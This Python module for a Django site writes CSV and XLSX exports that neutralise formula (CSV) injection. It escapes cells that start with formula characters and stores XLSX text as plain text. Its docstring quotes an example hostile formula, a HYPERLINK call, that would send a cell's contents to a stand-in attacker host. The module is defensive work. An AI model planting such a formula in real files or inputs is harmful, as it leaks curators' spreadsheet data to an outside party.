"""Spreadsheet files that open safely: every CSV the site writes, and the
admin's exports (django-import-export's CSV and XLSX).

A spreadsheet program runs a cell as a formula when its text starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one, or
the full-width forms ``＝ ＋ － ＠`` that some programs normalise), so a title
submitted anonymously as ``=HYPERLINK("http://evil.example/?"&A1)`` would
run on a curator's computer (CSV injection). Such a cell gets a leading
apostrophe, which spreadsheet programs read as "this is text" and do not
show; nothing else about any value changes. An XLSX cell is typed, so there
a text cell is simply stored as text, never as a formula.

The page downloads, the API's CSV format and the admin's exports all write
through here; a test checks that every admin export uses these formats.
"""

import csv
import io
from collections.abc import Iterable
from typing import Any

import tablib
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)


def formula_safe(value: Any) -> Any:
    """The cell value, with text that would start a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeWriter:
    """``csv.writer``, but no cell it writes starts a formula."""

    def __init__(self, file: Any, **fmtparams: Any):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row; gives back what the file's ``write`` gave."""
        return self._writer.writerow([formula_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class FormulaSafeCSV(base_formats.CSV):
    """django-import-export's CSV, written by ``FormulaSafeWriter``."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> str:
        out = io.StringIO()
        writer = FormulaSafeWriter(out, lineterminator="\r\n")
        if dataset.headers:
            writer.writerow(dataset.headers)
        writer.writerows(dataset)
        return out.getvalue()


class FormulaSafeXLSX(base_formats.XLSX):
    """django-import-export's XLSX, with text always stored as text.

    openpyxl stores any text starting with ``=`` as a formula, and
    django-import-export's escaping deletes the ``=`` instead (changing the
    value); here the cell keeps its text and is typed as a string. Characters
    that an XLSX file cannot hold at all (control characters) become U+FFFD.
    """

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> bytes:
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = (dataset.title or "Export")[:31]
        rows: list[Iterable[Any]] = [dataset.headers] if dataset.headers else []
        rows.extend(dataset)
        for number, row in enumerate(rows, start=1):
            for column, value in enumerate(row, start=1):
                if isinstance(value, str):
                    value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
                cell = sheet.cell(row=number, column=column, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
                if number == 1 and dataset.headers:
                    cell.font = Font(bold=True)
        if dataset.headers:
            sheet.freeze_panes = "A2"
        out = io.BytesIO()
        workbook.save(out)
        return out.getvalue()


# django-import-export exports numbers and dates as such (not as text) only
# to the formats it lists as binary, by exact class.
if FormulaSafeXLSX not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(FormulaSafeXLSX)

SPREADSHEET_FORMATS = [FormulaSafeCSV, FormulaSafeXLSX]
